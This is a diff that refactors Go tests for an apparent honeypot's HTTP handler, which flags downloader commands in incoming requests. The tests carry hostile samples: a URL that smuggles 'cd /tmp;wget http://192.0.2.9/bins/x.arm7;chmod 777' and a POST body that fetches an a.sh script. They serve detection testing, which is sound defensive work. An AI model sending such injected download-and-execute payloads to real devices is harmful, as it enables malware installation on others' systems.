@@ -4,12 +4,10 @@ import (
 	"bytes"
 	"encoding/json"
 	"net"
-	"os"
 	"os/exec"
 	"reflect"
 	"strconv"
 	"strings"
-	"sync"
 	"testing"
 	"time"
 
@@ -108,72 +106,21 @@ func FuzzParse(f *testing.F) {
 	})
 }
 
-// events collects the lines of MuxConfig.EmitEvent.
-type events struct {
-	mu    sync.Mutex
-	lines []map[string]any
-}
-
-func (e *events) emit(_ time.Time, line []byte) {
-	var m map[string]any
-	if err := json.Unmarshal(line, &m); err != nil {
-		panic(err)
-	}
-	e.mu.Lock()
-	e.lines = append(e.lines, m)
-	e.mu.Unlock()
-}
-
-func (e *events) get() []map[string]any {
-	e.mu.Lock()
-	defer e.mu.Unlock()
-	return append([]map[string]any(nil), e.lines...)
-}
-
 // listen serves h through a real Mux on a loopback listener, the
 // connections' flows claiming local port port.
-func listen(t *testing.T, h handlers.Handler, port uint16) (addr string, rec *handlerstest.Recorder, ev *events) {
+func listen(t *testing.T, h handlers.Handler, port uint16) (addr string, rec *handlerstest.Recorder, ev *handlerstest.Events) {
 	t.Helper()
 	reg := handlers.NewRegistry(generic.New(generic.Config{}))
 	reg.Register(h, handlers.Matcher{Content: http.Match, Ports: []uint16{port}})
-	rec, ev = &handlerstest.Recorder{}, &events{}
-	m, err := handlers.NewMux(handlers.MuxConfig{Registry: reg, Emit: rec.Emit, EmitEvent: ev.emit, FirstDataTimeout: time.Second})
-	if err != nil {
-		t.Fatal(err)
-	}
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { ln.Close() })
-	go func() {
-		for {
-			c, err := ln.Accept()
-			if err != nil {
-				return
-			}
-			go m.ServeConn(c, handlerstest.Flow(c, port))
-		}
-	}()
-	return ln.Addr().String(), rec, ev
-}
-
-func needTool(t *testing.T, name string) string {
-	t.Helper()
-	p, err := exec.LookPath(name)
-	if err != nil {
-		if os.Getenv("CI") == "true" {
-			t.Fatalf("%s not installed (required under CI=true)", name)
-		}
-		t.Skipf("%s not installed", name)
-	}
-	return p
+	ev = &handlerstest.Events{}
+	addr, rec = handlerstest.Serve(t, handlers.MuxConfig{Registry: reg, EmitEvent: ev.Emit, FirstDataTimeout: time.Second}, port)
+	return addr, rec, ev
 }
 
 // TestCurl serves a real curl: the request is recorded, the page comes
 // back, and a downloader in the URL becomes an event.
 func TestCurl(t *testing.T) {
-	curl := needTool(t, "curl")
+	curl := handlerstest.RequireTool(t, "curl", "curl")
 	addr, rec, ev := listen(t, http.New(http.Config{Server: "test-server/1.0", Body: "<html>hi</html>\n"}), 80)
 	target := "http://" + addr + "/shell?cd+/tmp;wget+http://192.0.2.9/bins/x.arm7;chmod+777+x.arm7"
 	out, err := exec.Command(curl, "-sS", "-i", "-A", "spoki-test/1.0", "-H", "X-Probe: 1", target).CombinedOutput()
@@ -191,7 +138,7 @@ func TestCurl(t *testing.T) {
 	if r.Method != "GET" || r.UserAgent != "spoki-test/1.0" || r.Host != addr || !strings.HasPrefix(r.URL, "/shell?") || r.Error != "" {
 		t.Errorf("Request = %+v", r)
 	}
-	evs := ev.get()
+	evs := ev.Lines()
 	if len(evs) != 1 || evs[0]["event_type"] != "downloader" || evs[0]["url"] != "http://192.0.2.9/bins/x.arm7" ||
 		evs[0]["tool"] != "wget" || evs[0]["source"] != "request_line" || evs[0]["app_proto"] != "http" {
 		t.Errorf("events = %v, want one wget downloader of http://192.0.2.9/bins/x.arm7", evs)
@@ -221,7 +168,7 @@ func TestPostBody(t *testing.T) {
 	if string(r.Body) != body || r.BodyLen != len(body) || r.ContentLength != int64(len(body)) {
 		t.Errorf("body = %q (%d of %d), want %q", r.Body, r.BodyLen, r.ContentLength, body)
 	}
-	evs := ev.get()
+	evs := ev.Lines()
 	if len(evs) != 1 || evs[0]["url"] != "http://198.51.100.3:8081/a.sh" || evs[0]["source"] != "body" || evs[0]["tool"] != "curl" {
 		t.Errorf("events = %v", evs)
 	}
